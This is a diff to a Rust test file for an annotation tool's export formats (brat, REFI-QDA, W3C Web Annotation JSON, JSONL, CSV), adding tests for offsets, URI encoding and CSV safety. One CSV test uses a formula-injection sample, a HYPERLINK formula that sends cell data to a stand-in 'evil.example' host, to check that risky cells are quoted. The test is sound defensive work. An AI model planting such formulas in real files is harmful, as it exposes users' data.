@@ -8,21 +8,35 @@ use std::path::{Path, PathBuf};
 
 use gloss::core::annotation::Stamp;
 use gloss::core::corpus::Corpus;
-use gloss::core::export::{self, Format, Material, Options, Scope};
+use gloss::core::export::{self, DocText, Format, Material, Options, Scope};
 use gloss::core::import::{self, Batch, Report};
 use gloss::core::offsets::Given;
 use serde_json::Value;
 
-fn material(ws: &common::Workspace) -> Material {
-    let corpus = Corpus::open(&ws.corpus(), None).unwrap();
-    Material::collect(&corpus, &Scope::default()).unwrap()
+/// The material of the workspace's corpus, its documents named under a fixed base IRI so that
+/// golden files do not depend on the temporary folder.
+fn material(ws: &common::Workspace) -> Material<'static> {
+    // The corpus the material borrows from lives as long as the test.
+    let corpus = Box::leak(Box::new(Corpus::open(&ws.corpus(), None).unwrap()));
+    let mut m = Material::collect(corpus, &Scope::default()).unwrap();
+    m.base = BASE.into();
+    m
 }
+
+const BASE: &str = "https://example.org/corpus/";
 
 fn exported(format: Format, options: Options) -> Vec<u8> {
     let ws = common::Workspace::new(true);
     let mut out = Vec::new();
     export::write(format, &material(&ws), options, &mut out).unwrap();
     out
+}
+
+/// `project.qde` of the material's REFI-QDA project.
+fn project(m: &Material, options: Options) -> String {
+    let mut out = Vec::new();
+    export::qdpx::write_project(m, options, &mut out).unwrap();
+    text(out)
 }
 
 fn text(bytes: Vec<u8>) -> String {
@@ -63,7 +77,8 @@ fn golden_md() {
 fn golden_brat() {
     let ws = common::Workspace::new(true);
     let mut listing = String::new();
-    for (path, contents) in export::brat::files(&material(&ws)) {
+    for file in export::brat::files(&material(&ws)) {
+        let (path, contents) = file.unwrap();
         // The texts are the shipped documents; the golden file keeps what brat adds.
         if !path.ends_with(".txt") {
             listing.push_str(&format!("=== {path}\n{contents}"));
@@ -75,7 +90,7 @@ fn golden_brat() {
 #[test]
 fn golden_qdpx_project() {
     let ws = common::Workspace::new(true);
-    insta::assert_snapshot!(export::qdpx::project(&material(&ws), Options::default()));
+    insta::assert_snapshot!(project(&material(&ws), Options::default()));
 }
 
 #[test]
@@ -140,7 +155,8 @@ fn json_has_the_w3c_fields_and_its_selectors_match_the_text() {
         assert_eq!(item["created"], "2026-11-23T10:00:00Z");
         assert_eq!(item["modified"], "2026-11-23T10:00:00Z");
         let target = &item["target"];
-        let text = shipped_text(target["source"].as_str().unwrap());
+        let source = target["source"].as_str().unwrap();
+        let text = shipped_text(source.strip_prefix(BASE).unwrap());
         let selectors = target["selector"].as_array().unwrap();
         let quote = selectors
             .iter()
@@ -196,9 +212,96 @@ fn jsonl_labels_slice_each_line_s_own_text() {
 }
 
 #[test]
+fn jsonl_offsets_count_utf16_units_as_doccano_does_or_code_points_when_asked() {
+    let ws = common::Workspace::new(true);
+    let mut m = material(&ws);
+    // Two emoji before every annotation: two code points, four UTF-16 code units.
+    for doc in &mut m.docs {
+        doc.text = DocText::Given(format!("😀😀{}", doc.text().unwrap()));
+        for a in &mut doc.annotations {
+            a.to_mut().start += 2;
+            a.to_mut().end += 2;
+        }
+    }
+    let lines = |options: Options| -> Vec<Value> {
+        let mut out = Vec::new();
+        export::write(Format::Jsonl, &m, options, &mut out).unwrap();
+        text(out)
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap())
+            .collect()
+    };
+    let quotes = |line: &Value, slice: &dyn Fn(&str, usize, usize) -> String| -> Vec<String> {
+        let text = line["text"].as_str().unwrap();
+        line["label"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|l| {
+                slice(
+                    text,
+                    l[0].as_u64().unwrap() as usize,
+                    l[1].as_u64().unwrap() as usize,
+                )
+            })
+            .collect()
+    };
+    // Sliced as JavaScript (doccano) slices: in UTF-16 code units.
+    let utf16 = |text: &str, start: usize, end: usize| {
+        String::from_utf16(&text.encode_utf16().collect::<Vec<u16>>()[start..end]).unwrap()
+    };
+    let expected: Vec<Vec<String>> = m
+        .docs
+        .iter()
+        .map(|d| {
+            d.annotations
+                .iter()
+                .flat_map(|a| a.tags.iter().map(|_| a.quote.clone()))
+                .collect()
+        })
+        .collect();
+    let written = lines(Options::default());
+    assert_eq!(written[0]["offsets"], "utf16");
+    let got: Vec<Vec<String>> = written.iter().map(|l| quotes(l, &utf16)).collect();
+    assert_eq!(got, expected);
+    // As Python (spaCy) slices: in code points.
+    let written = lines(Options {
+        offsets: export::jsonl::OffsetUnit::Codepoints,
+        ..Options::default()
+    });
+    let got: Vec<Vec<String>> = written.iter().map(|l| quotes(l, &slice)).collect();
+    assert_eq!(got, expected);
+    // Either way an import places the labels where they were.
+    for offsets in [
+        export::jsonl::OffsetUnit::Utf16,
+        export::jsonl::OffsetUnit::Bytes,
+    ] {
+        let mut out = Vec::new();
+        let options = Options {
+            offsets,
+            ..Options::default()
+        };
+        export::write(Format::Jsonl, &m, options, &mut out).unwrap();
+        let batch = export::jsonl::read(&text(out), Default::default(), &|_| None).unwrap();
+        let first = &m.docs[0].annotations[0];
+        assert_eq!(
+            (batch.annotations[0].start, batch.annotations[0].end),
+            (first.start, first.end),
+            "{offsets:?}"
+        );
+        assert_eq!(
+            batch.annotations[0].quote.as_deref(),
+            Some(first.quote.as_str())
+        );
+    }
+}
+
+#[test]
 fn brat_spans_slice_the_txt_beside_them() {
     let ws = common::Workspace::new(true);
-    let files = export::brat::files(&material(&ws));
+    let files: Vec<(String, String)> = export::brat::files(&material(&ws))
+        .map(Result::unwrap)
+        .collect();
     let get = |name: &str| &files.iter().find(|(p, _)| p == name).unwrap().1;
     let ann = get("000_073045cb8793dce5.ann");
     let txt = get("000_073045cb8793dce5.txt");
@@ -214,15 +317,11 @@ fn brat_spans_slice_the_txt_beside_them() {
     assert!(ann.contains("#1\tAnnotatorNotes T5\tQuoted from the Cyberspace"));
 }
 
-/// The unzipped project: `project.qde` and the sources it names.
-fn unzip(bytes: &[u8], into: &Path) {
-    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
-    zip.extract(into).unwrap();
-}
-
-fn schema() -> Option<PathBuf> {
+/// `../shared/schemas/<name>`, which CI has beside the repository; `None` elsewhere.
+fn shared_schema(name: &str) -> Option<PathBuf> {
     let path = Path::new(env!("CARGO_MANIFEST_DIR"))
-        .join("../shared/schemas/refi-qda-Project-mrt2019.xsd");
+        .join("../shared/schemas")
+        .join(name);
     if path.exists() {
         return Some(path);
     }
@@ -234,9 +333,91 @@ fn schema() -> Option<PathBuf> {
     None
 }
 
+/// Runs the W3C Web Annotation test suite's MUST assertions on a JSON export, through
+/// `tests/support/w3c_musts.py` (Python jsonschema with its URI and date-time format checks,
+/// which `.ci/run` installs): its exit code (0 all met, 1 some failed) and what it printed, one
+/// line per failed assertion; `None` when the suite is not beside the repository.
+fn w3c_musts(export: &[u8]) -> Option<(Option<i32>, String)> {
+    let Some(suite) = shared_schema("w3c-web-annotation-tests") else {
+        println!("skipped: the W3C test suite (../shared/schemas) is not beside the repository");
+        return None;
+    };
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("export.jsonld");
+    std::fs::write(&file, export).unwrap();
+    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/support/w3c_musts.py");
+    let out = std::process::Command::new("python3")
+        .arg(script)
+        .arg(&suite)
+        .arg(&file)
+        .output()
+        .expect("python3 runs");
+    let report = format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    Some((out.status.code(), report))
+}
+
+/// Panics with the failed assertions unless `export` meets every MUST assertion.
+fn assert_meets_w3c_musts(export: &[u8]) {
+    if let Some((code, report)) = w3c_musts(export) {
+        assert_eq!(code, Some(0), "{report}");
+        assert!(report.ends_with(" 0 failed\n"), "{report}");
+    }
+}
+
+#[test]
+fn json_meets_every_must_assertion_of_the_w3c_test_suite() {
+    let ws = common::Workspace::new(true);
+    let corpus = Corpus::open(&ws.corpus(), None).unwrap();
+    // The default base: the corpus folder's file:// URL.
+    let mut m = Material::collect(&corpus, &Scope::default()).unwrap();
+    assert!(m.base.starts_with("file:///") && m.base.ends_with("/corpus/"));
+    let mut out = Vec::new();
+    export::write(Format::Json, &m, Options::default(), &mut out).unwrap();
+    assert_meets_w3c_musts(&out);
+    // Paths and ids that are not URIs as they are: they are percent-encoded.
+    m.base = export::json::base_iri("https://example.org/claims").unwrap();
+    m.docs[0].rel_path = "press cuttings/Chine été #1.txt".into();
+    m.docs[0].annotations[0].to_mut().id = "my note 1".into();
+    let mut out = Vec::new();
+    export::write(Format::Json, &m, Options::default(), &mut out).unwrap();
+    let written = text(out.clone());
+    assert!(
+        written.contains(
+            "\"https://example.org/claims/press%20cuttings/Chine%20%C3%A9t%C3%A9%20%231.txt\""
+        ),
+        "{written}"
+    );
+    assert!(written.contains("\"urn:x-gloss:annotation:my%20note%201\""));
+    assert_meets_w3c_musts(&out);
+    // ... and read back as they were.
+    let batch = export::json::read(&out).unwrap();
+    assert_eq!(batch.annotations[0].id.as_deref(), Some("my note 1"));
+    assert!(
+        batch.annotations[0]
+            .document
+            .ends_with("/press cuttings/Chine été #1.txt")
+    );
+    // A relative source fails the suite, so the check above can fail.
+    let relative = written.replace("https://example.org/claims/", "");
+    if let Some((code, report)) = w3c_musts(relative.as_bytes()) {
+        assert_eq!(code, Some(1), "{report}");
+        assert!(report.contains("3.2-targetObjectsRecognized"), "{report}");
+    }
+}
+
+/// The unzipped project: `project.qde` and the sources it names.
+fn unzip(bytes: &[u8], into: &Path) {
+    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
+    zip.extract(into).unwrap();
+}
+
 #[test]
 fn qdpx_unzips_to_a_project_valid_against_the_refi_qda_schema_with_its_sources() {
-    let Some(schema) = schema() else {
+    let Some(schema) = shared_schema("refi-qda-Project-mrt2019.xsd") else {
         println!("skipped: the REFI-QDA schema (../shared/schemas) is not beside the repository");
         return;
     };
@@ -276,10 +457,11 @@ fn qdpx_unzips_to_a_project_valid_against_the_refi_qda_schema_with_its_sources()
 fn qdpx_crlf_positions_count_line_breaks_twice() {
     let ws = common::Workspace::new(true);
     let m = material(&ws);
-    let project = export::qdpx::project(
+    let project = project(
         &m,
         Options {
             crlf_positions: true,
+            ..Options::default()
         },
     );
     let doc = m
@@ -287,7 +469,13 @@ fn qdpx_crlf_positions_count_line_breaks_twice() {
         .iter()
         .find(|d| d.rel_path == "001_bcba7e35c127046e.txt")
         .unwrap();
-    let breaks = doc.text.chars().take(2782).filter(|c| *c == '\n').count();
+    let breaks = doc
+        .text()
+        .unwrap()
+        .chars()
+        .take(2782)
+        .filter(|c| *c == '\n')
+        .count();
     assert!(breaks > 0);
     assert!(project.contains(&format!("startPosition=\"{}\"", 2782 + breaks)));
 }
@@ -359,11 +547,73 @@ fn csv_round_trip_is_byte_for_byte() {
 }
 
 #[test]
+fn csv_cells_that_spreadsheets_would_run_as_formulas_are_quoted_and_read_back_exactly() {
+    let ws = common::Workspace::new(true);
+    let mut m = material(&ws);
+    let link = "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")";
+    let notes = [
+        link,
+        "+1 for this",
+        "-",
+        "@me",
+        "\tindented",
+        "'=kept",
+        "plain",
+    ];
+    for (a, note) in m
+        .docs
+        .iter_mut()
+        .flat_map(|d| d.annotations.iter_mut())
+        .zip(notes)
+    {
+        a.to_mut().note = note.into();
+    }
+    m.docs[0].annotations[0].to_mut().annotator = "@annotator".into();
+    let cells = |options: Options| -> Vec<(String, String)> {
+        let mut out = Vec::new();
+        export::write(Format::Csv, &m, options, &mut out).unwrap();
+        let mut reader = csv::Reader::from_reader(&out[3..]);
+        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        rows.iter()
+            .map(|r| (r[7].to_owned(), r[8].to_owned()))
+            .collect()
+    };
+    let guarded = cells(Options::default());
+    assert_eq!(guarded[0], (format!("'{link}"), "'@annotator".into()));
+    let written: Vec<&str> = guarded.iter().map(|(note, _)| note.as_str()).collect();
+    assert!(written.contains(&"'+1 for this") && written.contains(&"''=kept"));
+    assert!(written.contains(&"'\tindented") && written.contains(&"plain"));
+    // No cell a spreadsheet reads starts like a formula.
+    assert!(
+        guarded
+            .iter()
+            .all(|(n, a)| !n.starts_with(['=', '+', '-', '@', '\t', '\r'])
+                && !a.starts_with(['=', '+', '-', '@']))
+    );
+    let raw = cells(Options {
+        raw_cells: true,
+        ..Options::default()
+    });
+    assert_eq!(raw[0], (link.to_owned(), "@annotator".into()));
+    // Reading takes every guarded cell back as it was.
+    let mut out = Vec::new();
+    export::write(Format::Csv, &m, Options::default(), &mut out).unwrap();
+    let batch = export::csv::read(&out).unwrap();
+    let read: Vec<&str> = batch.annotations.iter().map(|a| a.note.as_str()).collect();
+    assert_eq!(read, notes);
+    assert_eq!(
+        batch.annotations[0].annotator.as_deref(),
+        Some("@annotator")
+    );
+}
+
+#[test]
 fn qdpx_round_trip_is_byte_for_byte_with_either_way_of_counting() {
     for options in [
         Options::default(),
         Options {
             crlf_positions: true,
+            ..Options::default()
         },
     ] {
         let ws = common::Workspace::new(false);
